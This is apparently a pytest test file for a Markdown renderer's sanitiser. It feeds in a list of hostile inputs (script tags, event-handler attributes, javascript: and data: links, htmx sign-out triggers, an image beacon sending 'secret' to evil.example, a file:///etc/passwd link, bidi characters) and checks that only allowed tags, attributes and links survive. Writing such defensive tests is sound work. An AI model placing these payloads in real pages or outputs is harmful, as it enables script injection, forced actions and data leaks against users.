"""Hostile and heavy Markdown: what reaches the page is on the short list, and soon."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from workbench.runs.answer.highlight import CLASSES
from workbench.runs.answer.markdown import TAGS, cleaned, is_too_costly, render

from .page_model import parsed

ATTRIBUTES = {"a": {"href", "rel"}, "pre": {"class", "tabindex"}, "ol": {"start"}}
CLASS_NAMES = CLASSES | {"hl", "plain", "host", "align-left", "align-center", "align-right"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><circle/></svg>",
    "<iframe src=https://evil.example></iframe>",
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    '<div hx-get="/sign-out/" hx-trigger=load>x</div>',
    '<button hx-post=/t/a/ hx-trigger="every 1s" data-hx-get=/x>x</button>',
    '<a href="https://a.example" id=run-42 title="<hx-x hx-get=/x>" style="position:fixed">x</a>',
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "<base href=https://evil.example><form action=/x><input autofocus></form>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x) [y](file:///etc/passwd)",
    "<javascript:alert(1)> <data:text/html,x>",
    '[x](https://a.example "title\\" onmouseover=alert(1)")',
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](/sign-out/) [y](//evil.example/) [z](https:evil) [w](https:///evil.example)",
    "[x](\\\\evil.example) [y](http://[) [z](?next=/)",
    "![x](https://evil.example/p.png?d=secret)",
    "![<img src=x>](https://evil.example/<script>)",
    "[![x](https://evil.example/p.png)](https://a.example)",
    '```python" onload="alert(1)\nprint(1)\n```',
    "```<script>\nx\n```",
    "```html\n<script>alert(1)</script><b onclick=x>\n```",
    "```hx-get=/x data-x\nx\n```",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "| <b onclick=x> | [x](javascript:x) |\n|:-:|--:|\n| <img src=x> | y |",
    "> > > <script>\n> > x\n\n- - - 1. <iframe>",
    "# <h1 id=run-42-state>x</h1>\n\nSetext <x>\n===",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;",
    "&quot;&#39;&amp;&#0;&#13;&#x202e;&NewLine;",
    "[a]: javascript:alert(1)\n\n[a]",
    "text\u202e reversed \u2066 \x00 \x1b[31m \x85\u2028",
    "<!-- --><?php ?><![CDATA[x]]><!DOCTYPE x>",
]


def assert_safe(html: str) -> None:
    assert "\r" not in html
    for element in list(parsed(html).walk())[1:]:
        assert element.tag in TAGS
        names = element.attributes.keys()
        assert names <= ATTRIBUTES.get(element.tag, set()) | {"class"}
        assert set((element.attributes.get("class") or "").split()) <= CLASS_NAMES
        if element.tag == "a":
            address = element.attributes["href"] or ""
            assert address.startswith(("http://", "https://", "mailto:"))
            assert element.attributes["rel"] == "noopener noreferrer nofollow ugc"
        if element.tag == "pre":
            assert element.attributes["tabindex"] == "0"


@pytest.mark.parametrize("source", HOSTILE)
@pytest.mark.parametrize("is_finished", [True, False])
def test_hostile_markdown_gives_listed_elements_and_attributes_only(source, is_finished):
    assert_safe(render(source, is_finished=is_finished))


@given(st.lists(st.sampled_from([*HOSTILE, "\n", "> ", "- ", "`", "|", "[", "](", "*"])))
@settings(max_examples=150)
def test_hostile_pieces_in_any_order_are_safe_together(pieces):
    assert_safe(render("".join(pieces), is_finished=True))


def test_raw_html_is_shown_as_text():
    html = render("<b onclick=x>hi</b>", is_finished=True)
    assert parsed(html).text.strip() == "<b onclick=x>hi</b>"


def test_an_image_becomes_a_link_that_names_its_place():
    html = render("![cat](https://host.example/cat.png)", is_finished=True)
    assert 'href="https://host.example/cat.png"' in html
    assert ">image: host.example/cat.png</a>" in html


def test_an_image_inside_a_link_is_text_and_the_links_host_is_shown():
    html = render("[![x](https://a.example/x.png)](https://b.example)", is_finished=True)
    assert html.count("<a ") == 1
    assert "image: a.example/x.png</a>" in html
    assert "(b.example)" in html


@pytest.mark.parametrize(
    ("source", "shown"),
    [
        ("[docs](https://a.example/x)", " (a.example)"),
        ("[https://good.example](https://evil.example)", " (evil.example)"),
        ("[good.example](https://good.example@evil.example/)", " (evil.example)"),
        ("[https://a.example/y](https://a.example/x)", ""),
        ("[a.example](https://a.example)", ""),
        ("<https://a.example/x>", ""),
        ("[Ann](mailto:ann@a.example)", " (ann@a.example)"),
        ("<ann@a.example>", ""),
    ],
)
def test_the_host_follows_a_link_whose_text_does_not_show_it(source, shown):
    spans = [e.text for e in parsed(render(source, is_finished=True)).walk() if e.tag == "span"]
    assert "".join(spans) == shown


def test_headings_begin_at_the_third_level():
    html = render("# a\n## b\n### c\n#### d\n###### e", is_finished=True)
    tags = [e.tag for e in parsed(html).walk() if e.tag.startswith("h")]
    assert tags == ["h3", "h4", "h5", "h6", "h6"]


def test_code_is_coloured_when_finished_only_and_reads_the_same():
    source = "```python\n\n\ndef f():\n    return '<b>'  \n\n\n```\n"
    growing, finished = (render(source, is_finished=state) for state in (False, True))
    assert "<span" not in growing
    assert '<span class="k">def</span>' in finished
    assert parsed(growing).text == parsed(finished).text
    assert parsed(finished).text.strip("\n") == "def f():\n    return '<b>'  "


def test_code_in_an_unknown_language_is_plain():
    assert "<span" not in render("```brainfuck\n+\n```", is_finished=True)


@pytest.mark.parametrize("code", ["a " * 7_900, "x" * 401, "x = 1\n" * 3_000])
def test_code_that_would_take_long_to_colour_is_plain(code):
    assert "<span" not in render(f"```java\n{code}\n```", is_finished=True)


def test_cells_keep_their_alignment_without_a_style():
    html = render("|a|b|\n|:-:|--:|\n|1|2|", is_finished=True)
    assert '<td class="align-center">1</td>' in html
    assert '<td class="align-right">2</td>' in html


def test_a_definition_of_a_link_stays_readable():
    assert "https://a.example" in render("[1]: https://a.example", is_finished=True)


@pytest.mark.parametrize(
    "source",
    [
        "[" * 20_000,
        "![" * 10_000,
        ">" * 1000 + " a",
        "- " * 1000 + "a",
        "x" * 100_001,
        "|a" * 5000 + "|\n" + "|-" * 5000 + "|\n" + "|\n" * 1000,
        "|a|b|\n|-|-|\n" + "|a|b|\n" * 5000,
        "[a](http://b.example) " * 4000,
        "a  \n" * 20_000,
    ],
)
def test_what_would_take_long_is_shown_as_it_is(source):
    html = render(source, is_finished=True)
    assert html.startswith('<pre class="plain" tabindex="0">')
    assert parsed(html).text == source


@pytest.mark.parametrize(
    "source",
    [
        "word " * 19_000,
        "- *item* `words`\n" * 500,
        "|a|b|\n|-|-|\n" + "|some|words|\n" * 800,
        "[a](http://b.example) " * 600,
        "*a _b_* " * 1000,
        "```python\n" + "x = [1, 2]\n" * 5000 + "```\n",
    ],
)
def test_long_ordinary_text_is_rendered(source):
    assert not is_too_costly(source)
    assert '"plain"' not in render(source, is_finished=True)


@pytest.mark.parametrize(
    "address", ["/sign-out/", "//evil.example", "?next=/", "#run-4", "x:y", ""]
)
def test_the_last_wall_alone_stops_links_into_this_site(address):
    assert "href" not in cleaned(f'<a href="{address}">x</a>')


@pytest.mark.parametrize("address", ["https://a.example/", "MAILTO:a@b.example", "#run-4-source-5"])
def test_the_last_wall_lets_links_to_the_web_and_to_sources_pass(address):
    assert f'href="{address}"' in cleaned(f'<a href="{address}">x</a>')


@pytest.mark.parametrize("source", ["#", "text\n\n##", "> ###", "- #"])
def test_a_heading_shows_only_when_its_first_word_is_there(source):
    assert "<h" not in render(source, is_finished=False)
    assert "<h" in render(f"{source} word", is_finished=False)
